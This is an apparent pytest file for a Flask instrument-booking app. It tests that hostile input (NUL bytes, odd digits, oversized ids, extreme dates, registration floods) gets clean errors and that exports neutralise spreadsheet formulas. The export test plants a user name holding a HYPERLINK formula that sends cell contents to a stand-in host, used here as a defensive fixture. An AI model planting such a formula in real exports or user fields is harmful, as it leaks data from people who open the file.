"""Hostile input answers with a message or a 404, never a 500, and changes
nothing: NUL bytes (PostgreSQL text cannot hold them), non-ASCII digits,
ids past 32 bits, years 1 and 9999, formula text in exports, floods."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import openpyxl
import pytest
from flask.testing import FlaskClient

from booking import create_app
from booking.accounts.models import OrgKind, User
from booking.extensions import db
from booking.orders import services
from booking.orders.models import Booking, OrderStatus
from booking.orders.services import place_booking
from instruments.models import Instrument
from tests.orders.conftest import NOW, request_for

PUBLIC_URLS = [
    "/instruments?page=%C2%B2",
    "/instruments?page=--5",
    "/services?page=%C2%B2",
    "/instruments?institution=%C2%B2",
    "/instruments?institution=99999999999",
    "/instruments/99999999999",
    "/services/2147483648",
]


@pytest.mark.parametrize("url", PUBLIC_URLS)
def test_public_pages_survive_odd_numbers(client: FlaskClient, url: str) -> None:
    assert client.get(url).status_code in (200, 404)


@pytest.mark.parametrize(
    "url", ["/instruments?region=%00", "/services?region=a%00", "/my/calendar/aaaa%00.ics"]
)
def test_nul_bytes_are_refused_with_400(client: FlaskClient, url: str) -> None:
    response = client.get(url)
    assert response.status_code == 400
    assert "无效字符" in response.get_data(as_text=True)


def test_nul_in_a_form_is_refused_and_changes_nothing(
    login_as: Callable[[User], FlaskClient], instrument: Instrument, firm_user: User
) -> None:
    booking = place_booking(firm_user, request_for(instrument), NOW)
    db.session.commit()
    client = login_as(firm_user)
    response = client.post(f"/my/orders/booking/{booking.id}/cancel", data={"reason": "再见\x00"})
    assert response.status_code == 400
    db.session.rollback()
    assert db.session.get(Booking, booking.id).status == OrderStatus.REQUESTED  # type: ignore[union-attr]
    assert client.post("/login", data={"email": "a\x00@x.cn", "password": "x"}).status_code == 400


@pytest.mark.parametrize(
    "url",
    [
        "/provider/bookings?to=9999-12-31",
        "/provider/bookings?from=0001-01-01",
        "/provider/bookings/export?to=9999-12-31",
        "/provider/utilisation?from=%C2%B2%C2%B2%C2%B2%C2%B2-03",
        "/provider/bookings?instrument=%C2%B2&page=%C2%B2",
        "/provider/requests?page=--5",
    ],
)
def test_provider_pages_survive_odd_dates_and_numbers(
    url: str,
    login_as: Callable[[User], FlaskClient],
    instrument: Instrument,
    make_user: Callable[..., User],
) -> None:
    client = login_as(make_user(org=instrument.provider))
    assert client.get(url).status_code == 200


def test_year_one_and_9999_are_form_errors(
    login_as: Callable[[User], FlaskClient],
    instrument: Instrument,
    firm_user: User,
    make_user: Callable[..., User],
) -> None:
    staff = make_user(org=instrument.provider)
    booking = place_booking(firm_user, request_for(instrument), NOW)
    services.approve_booking(booking, staff, NOW)
    db.session.commit()
    client = login_as(staff)
    check_in = client.post(
        f"/provider/bookings/{booking.id}/check-in", data={"checked_in_at": "0001-01-01T00:00"}
    )
    assert check_in.status_code == 422
    training = client.post(
        "/provider/training",
        data={
            "instrument_id": instrument.id,
            "email": firm_user.email,
            "valid_until": "9999-12-31",
        },
    )
    assert training.status_code == 422
    downtime = client.post(
        f"/provider/instruments/{instrument.id}/downtime",
        data={
            "kind": "maintenance",
            "starts_at": "0001-01-01T00:00",
            "ends_at": "0001-01-02T00:00",
            "reason": "x",
        },
    )
    assert downtime.status_code == 422
    assert "1950" in downtime.get_data(as_text=True)


@pytest.mark.parametrize("kind", [OrgKind.AUTHORITY, OrgKind.PLATFORM])
def test_admin_pages_answer_404_for_ids_past_32_bits(
    kind: str, login_as: Callable[[User], FlaskClient], make_user: Callable[..., User]
) -> None:
    client = login_as(make_user(kind=kind))
    assert client.get("/admin/enterprises/99999999999999999999").status_code == 404
    assert client.post("/admin/enterprises/99999999999999999999/verify").status_code == 404
    assert client.get("/admin/organizations/2147483648").status_code == 404


def test_exports_do_not_carry_formulas(
    login_as: Callable[[User], FlaskClient],
    instrument: Instrument,
    make_user: Callable[..., User],
    make_org: Callable[..., object],
) -> None:
    attacker = make_user(kind=OrgKind.ENTERPRISE, name='=HYPERLINK("http://x.example/?"&B2)')
    db.session.commit()
    place_booking(attacker, request_for(instrument), NOW)
    db.session.commit()
    client = login_as(make_user(org=instrument.provider))

    text = client.get("/provider/bookings/export?format=csv").data.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert '\'=HYPERLINK("http://x.example/?"&B2)' in cells
    assert not any(c.startswith("=") for c in cells)

    book = openpyxl.load_workbook(
        io.BytesIO(client.get("/provider/bookings/export?format=xlsx").data)
    )
    formulas = [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_registration_is_throttled(
    app: object, client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(app.config, "REGISTRATION_RATE_LIMIT", "2 per minute")  # type: ignore[attr-defined]
    codes = [client.post("/register", data={"name_zh": "x"}).status_code for _ in range(3)]
    assert codes[-1] == 429
    assert 429 not in codes[:2]


def test_proxy_fix_is_opt_in() -> None:
    assert type(create_app("testing").wsgi_app).__name__ != "ProxyFix"
    assert type(create_app("testing", PROXY_FIX_X_FOR=1).wsgi_app).__name__ == "ProxyFix"
